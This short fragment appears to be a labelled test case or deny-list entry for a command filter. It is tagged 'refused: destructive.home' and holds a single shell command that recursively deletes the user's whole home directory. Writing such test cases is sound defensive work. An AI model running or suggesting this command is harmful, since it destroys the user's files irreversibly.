# refused: destructive.home 2
find ~ -maxdepth 0 -exec rm -rf {} +
